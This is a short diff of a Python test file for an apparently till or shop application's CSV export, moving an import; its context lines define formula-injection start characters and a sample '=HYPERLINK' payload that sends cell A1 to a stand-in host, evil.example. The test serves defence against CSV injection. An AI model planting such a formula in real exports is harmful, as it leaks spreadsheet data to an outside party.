@@ -32,7 +32,7 @@ from app.services.staff import AddStaff, add_staff
 from app.services.stock import receive_stock
 from app.store.csv_export import ExportTable
 from tests.conftest import DemoTill
-from tests.integration.test_csv_export import MONEY_COLUMNS
+from tests.integration.csv_columns import MONEY_COLUMNS
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
